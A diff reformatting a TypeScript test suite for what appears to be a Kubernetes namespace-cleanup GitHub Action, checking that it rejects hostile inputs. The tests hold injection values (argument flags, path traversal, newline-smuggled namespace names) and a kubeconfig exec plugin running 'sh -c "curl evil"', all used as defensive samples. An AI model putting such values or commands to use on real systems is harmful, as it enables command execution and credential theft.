@@ -33,39 +33,53 @@ async function run(inputs: Record<string, string>, env: Record<string, string> =
 }
 
 describe('hostile inputs', () => {
-  it.each([
-    ['0'],
-    ['1 --all'],
-    ['../x'],
-    ['12a'],
-    ['-1'],
-    ['01'],
-    ['1,app!=x'],
-    ['1000000000'],
-    ['7\nkube-system'],
-  ])('pr-number %j', async (value) => {
-    const r = await run({ mode: 'pr', 'pr-number': value });
-    expect(r.code).toBe(1);
-    expect(r.stdout).toContain('::error::Input "pr-number" has an invalid value');
-    expect(r.stdout).toContain('expected a PR number: digits only, 1 to 999999999');
-    expect(server.requests).toHaveLength(0);
-  });
+  it.each([['0'], ['1 --all'], ['../x'], ['12a'], ['-1'], ['01'], ['1,app!=x'], ['1000000000'], ['7\nkube-system']])(
+    'pr-number %j',
+    async (value) => {
+      const r = await run({ mode: 'pr', 'pr-number': value });
+      expect(r.code).toBe(1);
+      expect(r.stdout).toContain('::error::Input "pr-number" has an invalid value');
+      expect(r.stdout).toContain('expected a PR number: digits only, 1 to 999999999');
+      expect(server.requests).toHaveLength(0);
+    },
+  );
 
   it.each([
     [{ mode: 'pr' }, 'Input "pr-number" is required and was not supplied.'],
-    [{ mode: 'delete-all', 'pr-number': '1' }, 'Input "mode" has an invalid value "delete-all": expected one of pr, gc'],
+    [
+      { mode: 'delete-all', 'pr-number': '1' },
+      'Input "mode" has an invalid value "delete-all": expected one of pr, gc',
+    ],
     [{ mode: 'gc', 'pr-number': '3' }, 'Input "pr-number" has an invalid value "3": pr-number is only used in mode pr'],
-    [{ mode: 'gc', protected: 'staging\nprod-*' }, 'Input "protected" has an invalid value "prod-*": wildcards are not supported: list each namespace by its exact name'],
+    [
+      { mode: 'gc', protected: 'staging\nprod-*' },
+      'Input "protected" has an invalid value "prod-*": wildcards are not supported: list each namespace by its exact name',
+    ],
     [{ mode: 'gc', protected: '*' }, 'Input "protected" has an invalid value "*": wildcards are not supported'],
-    [{ mode: 'gc', protected: 'Prod' }, 'Input "protected" has an invalid value "Prod": expected exact namespace names'],
-    [{ mode: 'gc', 'max-age': 'a week' }, 'Input "max-age" has an invalid value "a week": expected a duration such as 30s, 5m, 1h30m or 500ms from 1h up to 8760h'],
+    [
+      { mode: 'gc', protected: 'Prod' },
+      'Input "protected" has an invalid value "Prod": expected exact namespace names',
+    ],
+    [
+      { mode: 'gc', 'max-age': 'a week' },
+      'Input "max-age" has an invalid value "a week": expected a duration such as 30s, 5m, 1h30m or 500ms from 1h up to 8760h',
+    ],
     [{ mode: 'gc', 'max-age': '7d' }, 'Input "max-age" has an invalid value "7d"'],
     [{ mode: 'gc', 'max-age': '10m' }, 'Input "max-age" has an invalid value "10m"'],
-    [{ mode: 'pr', 'pr-number': '5', 'max-age': '72h' }, 'Input "max-age" has an invalid value "72h": max-age is only used in mode gc'],
-    [{ mode: 'gc', concurrency: '0' }, 'Input "concurrency" has an invalid value "0": expected an integer >= 1 and <= 32'],
+    [
+      { mode: 'pr', 'pr-number': '5', 'max-age': '72h' },
+      'Input "max-age" has an invalid value "72h": max-age is only used in mode gc',
+    ],
+    [
+      { mode: 'gc', concurrency: '0' },
+      'Input "concurrency" has an invalid value "0": expected an integer >= 1 and <= 32',
+    ],
     [{ mode: 'gc', 'wait-timeout': 'forever' }, 'Input "wait-timeout" has an invalid value "forever"'],
     [{ mode: 'pr', 'pr-number': '5', 'helm-version': 'latest' }, 'Input "helm-version" has an invalid value "latest"'],
-    [{ mode: 'pr', 'pr-number': '5', 'in-cluster': 'true' }, 'Input "in-cluster" has an invalid value "true": give either kubeconfig or in-cluster: true, not both'],
+    [
+      { mode: 'pr', 'pr-number': '5', 'in-cluster': 'true' },
+      'Input "in-cluster" has an invalid value "true": give either kubeconfig or in-cluster: true, not both',
+    ],
     [{ mode: 'pr', 'pr-number': '5', kubeconfig: '' }, 'Input "kubeconfig" is required and was not supplied.'],
     [{ mode: 'gc', 'github-token': '' }, 'Input "github-token" is required and was not supplied.'],
   ])('%j', async (inputs, message) => {
@@ -76,7 +90,10 @@ describe('hostile inputs', () => {
   });
 
   it('a kubeconfig with an exec plugin is refused before any call, and its token never shows', async () => {
-    const withExec = kubeconfig.replace(`token: ${TOKEN}`, `token: ${TOKEN}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: ["-c", "curl evil"]`);
+    const withExec = kubeconfig.replace(
+      `token: ${TOKEN}`,
+      `token: ${TOKEN}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: ["-c", "curl evil"]`,
+    );
     const r = await run({ mode: 'pr', 'pr-number': '5', kubeconfig: withExec });
     expect(r.code).toBe(1);
     expect(r.stdout).toContain('::error::Input "kubeconfig": user "u" has an exec credential plugin');
